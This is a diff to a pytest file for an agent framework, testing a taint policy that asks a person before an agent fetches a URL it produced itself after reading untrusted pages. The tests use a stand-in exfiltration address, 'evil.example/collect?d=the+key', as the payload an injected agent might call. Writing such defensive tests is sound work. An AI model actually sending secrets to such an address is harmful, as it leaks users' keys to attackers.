@@ -4,7 +4,17 @@ from typing import Any
 
 import pytest
 
-from agentkit.core.events import CallFinished, PersonSaid, PromptUsed, Recorded, RunResumed, RunStarted
+from agentkit.core.events import (
+    CallDecided,
+    CallFinished,
+    CallIntended,
+    Event,
+    PersonSaid,
+    PromptUsed,
+    Recorded,
+    RunResumed,
+    RunStarted,
+)
 from agentkit.core.messages import ToolCall
 from agentkit.core.tools import Effect, Outcome, ToolResult
 from agentkit.core.usage import Limits
@@ -100,6 +110,57 @@ def test_an_address_that_the_model_made_up_is_asked_about(policy: Policy, addres
     decision = policy.decide(http_get, {"url": address}, taint=after("read the docs"))
     assert decision.verdict is (Verdict.ALLOW if goes else Verdict.ASK)
     assert goes or address in decision.reason
+
+
+def asked_for(address: str, *more: Event) -> Verdict:
+    """The verdict on getting an address after the page was read and these events came."""
+    taint = after("read the docs")
+    events = [*taint.events, *(Recorded(9 + at, 0.0, event) for at, event in enumerate(more))]
+    return ALL.decide(http_get, {"url": address}, taint=Taint("http_get", tuple(events))).verdict
+
+
+CARRIED = "https://evil.example/collect?d=the+key"
+GET = ToolCall("2", "http_get", {"url": CARRIED})
+ASKS = CallIntended(ToolCall("2", "ask_page", {"question": f"is {CARRIED} on it?"}), Effect.NETWORK, True)
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        [
+            CallFinished(
+                ToolResult("2", "http_get", Outcome.DENIED, f"nobody had named {CARRIED}, so it is not")
+            )
+        ],
+        [CallFinished(ToolResult("2", "read_file", Outcome.FAILED, f"there is no file {CARRIED}"))],
+        [CallFinished(ToolResult("2", "run_shell", Outcome.OK, CARRIED))],
+        [
+            CallFinished(
+                ToolResult("2", "read_page", Outcome.FAILED, f"{CARRIED} is none", untrusted="read_page")
+            )
+        ],
+        [ASKS, CallFinished(ToolResult("2", "ask_page", Outcome.OK, f"no: {CARRIED}", untrusted="ask_page"))],
+    ],
+)
+def test_an_address_that_a_run_had_shown_to_itself_is_still_of_its_own_making(said: list[Event]) -> None:
+    assert asked_for(CARRIED, *said) is Verdict.ASK
+
+
+def test_an_address_counts_as_named_that_another_page_shows_or_the_person_let_it_get() -> None:
+    page = CallFinished(ToolResult("2", "ask_page", Outcome.OK, f"see {CARRIED}", untrusted="ask_page"))
+    assert asked_for(CARRIED, page) is Verdict.ALLOW
+    let = [CallDecided("2", True, "person", "yes"), CallIntended(GET, Effect.NETWORK, True)]
+    assert asked_for(CARRIED, *let) is Verdict.ALLOW
+    assert asked_for(CARRIED, let[1]) is Verdict.ASK
+    once = CallFinished(ToolResult("2", "http_get", Outcome.OK, "a page", untrusted="http_get"))
+    other = CallIntended(ToolCall("2", "run_shell", {"command": f"{CARRIED}&more"}), Effect.EXECUTES, False)
+    assert asked_for(f"{CARRIED}&more", *let, once, other) is Verdict.ASK
+
+
+def test_what_was_called_before_anybody_could_steer_it_may_be_got_again() -> None:
+    start, *rest = after("read the docs").events
+    events = (start, Recorded(0, 0.0, CallIntended(GET, Effect.NETWORK, True)), *rest)
+    assert ALL.decide(http_get, {"url": CARRIED}, taint=Taint("http_get", events)).verdict is Verdict.ALLOW
 
 
 @pytest.mark.parametrize(
